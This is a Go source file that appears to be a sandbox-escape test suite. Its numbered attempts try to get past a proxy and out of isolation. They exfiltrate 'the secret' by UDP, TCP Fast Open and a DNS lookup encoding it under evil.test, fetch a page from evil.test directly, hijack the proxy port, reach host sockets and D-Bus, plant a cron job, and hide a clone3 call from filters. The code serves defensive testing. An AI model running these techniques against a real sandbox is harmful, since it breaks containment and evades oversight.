package inside

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// patience bounds each connection.
const patience = 2 * time.Second

// direct are the attempts of 4.4 that go past the proxy.
func direct() []attempt {
	return []attempt{
		try("N-01", "connect to the internet", tcp(World4+":443")),
		try("N-02", "send a datagram to the internet", udp(World4+":443")),
		try("N-02", "make a raw socket for ICMP", socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)),
		try("N-03", "ask a name server of the internet", udp(World4+":53")),
		without("the control arm has no name server", "N-03", "look a name up", func(*attacker) (string, error) {
			ctx, cancel := context.WithTimeout(context.Background(), patience)
			defer cancel()
			list, err := net.DefaultResolver.LookupHost(ctx, "c2VjcmV0.evil.test")
			return fmt.Sprint(list), err
		}),
		try("N-04", "fetch a page without the proxy", func(a *attacker) (string, error) {
			return a.exchange(World4+":80", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", nil)
		}),
		try("N-17", "connect by MPTCP", func(a *attacker) (string, error) {
			return connect(unix.SOCK_STREAM, unix.IPPROTO_MPTCP, World4, 443)
		}),
		try("N-18", "connect by TCP Fast Open", fastOpen),
		try("N-19", "connect to the proxy's port on the internet", tcp(World4+":3128")),
		try("N-20", "send a datagram to the proxy's port on the internet", udp(World4+":3128")),
		try("N-27", "listen in the proxy's place", takeProxy),
		try("N-28", "connect to a service on the host's loopback", hostServices),
		try("N-30", "add an address to an interface", addAddress),
		try("N-30", "speak netlink to netfilter", socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)),
		try("N-30", "speak netlink to the kernel's audit", socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT)),
		try("N-32", "connect to the internet by IPv6", tcp("["+World6+"]:443")),
	}
}

func tcp(addr string) func(*attacker) (string, error) {
	return func(*attacker) (string, error) {
		conn, err := net.DialTimeout("tcp", addr, patience)
		if err != nil {
			return "", err
		}
		conn.Close()
		return "connected to " + addr, nil
	}
}

// udp sends a datagram. That it left is all that can be known.
func udp(addr string) func(*attacker) (string, error) {
	return func(a *attacker) (string, error) {
		conn, err := net.DialTimeout("udp", addr, patience)
		if err != nil {
			return "", err
		}
		defer conn.Close()
		_, err = conn.Write([]byte("the secret"))
		return "sent to " + addr, err
	}
}

func socket(family, kind, protocol int) func(*attacker) (string, error) {
	return func(*attacker) (string, error) { return made(unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)) }
}

// connect connects without the runtime, which would choose the protocol itself.
func connect(kind, protocol int, host string, port int) (string, error) {
	fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 2})
	return "connected", unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte(net.ParseIP(host).To4())})
}

func fastOpen(*attacker) (string, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 2})
	to := &unix.SockaddrInet4{Port: 443, Addr: [4]byte(net.ParseIP(World4).To4())}
	return "sent", unix.Sendto(fd, []byte("the secret"), unix.MSG_FASTOPEN, to)
}

func takeProxy(*attacker) (string, error) {
	config := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) {
			unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
			unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEPORT, 1)
		})
	}}
	config.SetMultipathTCP(false)
	l, err := config.Listen(context.Background(), "tcp4", proxy)
	if err != nil {
		return "", err
	}
	l.Close()
	return "listening at " + proxy, nil
}

func hostServices(a *attacker) (string, error) {
	var errs []error
	for _, addr := range a.TCP {
		got, err := tcp(addr)(a)
		if err == nil {
			return got, nil
		}
		errs = append(errs, err)
	}
	return "", errors.Join(errs...)
}

func addAddress(*attacker) (string, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	req, err := unix.NewIfreq("lo:9")
	if err == nil {
		err = req.SetInet4Addr([]byte{192, 0, 2, 9})
	}
	if err == nil {
		err = unix.IoctlIfreq(fd, unix.SIOCSIFADDR, req)
	}
	return "added", err
}

// services are the attempts of 4.5 on programs of the host that listen.
func services() []attempt {
	return []attempt{
		try("K-01", "make a Unix socket", socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)),
		try("K-01", "connect to a socket of the host in a folder that is lent", hostSocket),
		try("K-01", "aim a datagram pair at a socket of the host", aimPair),
		try("K-02", "the same with high bits in the family", func(*attacker) (string, error) {
			fd, err := call(unix.SYS_SOCKET, 1<<32|unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			return made(int(fd), err)
		}),
		try("K-03", "connect to an abstract socket of the host", func(a *attacker) (string, error) {
			return unixConnect("@" + a.Abstract)
		}),
		without("the control arm knows no spool", "K-08", "leave a job for cron", func(*attacker) (string, error) {
			return create("/var/spool/cron/crontabs/nanoclaw-attack")
		}),
		try("K-08", "find the owner's message bus", func(a *attacker) (string, error) {
			for _, path := range append([]string{fmt.Sprint("/run/user/", os.Getuid(), "/bus"), "/run/dbus/system_bus_socket"}, a.Sockets...) {
				if _, err := os.Lstat(path); err == nil {
					return path, nil
				}
			}
			return "", refused("there is none")
		}),
		without("not every kernel has it", "K-26", "make a vsock", socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)),
		try("K-26", "make a packet socket", socket(unix.AF_PACKET, unix.SOCK_RAW, 0)),
		without("not every kernel has it", "K-26", "make a socket of the kernel's cryptography", socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)),
	}
}

func unixConnect(name string) (string, error) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	return "connected to " + name, unix.Connect(fd, &unix.SockaddrUnix{Name: name})
}

// socketName is the socket that the host has in the project.
func (a *attacker) socketName() string { return a.Project + "/service.sock" }

func hostSocket(a *attacker) (string, error) { return unixConnect(a.socketName()) }

// aimPair takes the one kind of Unix socket that runtimes need, and connects it
// anew.
func aimPair(a *attacker) (string, error) {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(pair[0])
	defer unix.Close(pair[1])
	return "sent", unix.Sendto(pair[0], []byte("x"), 0, &unix.SockaddrUnix{Name: a.socketName() + ".dgram"})
}

// shared memory of System V, by number.
func segment(id int) ([]byte, error) {
	b, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return nil, err
	}
	defer unix.SysvShmDetach(b)
	return append([]byte(nil), b...), nil
}

// clone3 asks for a user namespace in memory, where no filter sees it. Its
// arguments are wrong besides, so that no child comes of it.
func clone3(*attacker) (string, error) {
	args := struct{ flags, pidfd, childTID, parentTID, exitSignal, stack, stackSize, tls uint64 }{
		flags: unix.CLONE_NEWUSER, exitSignal: 1 << 40,
	}
	return reached(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args))
}
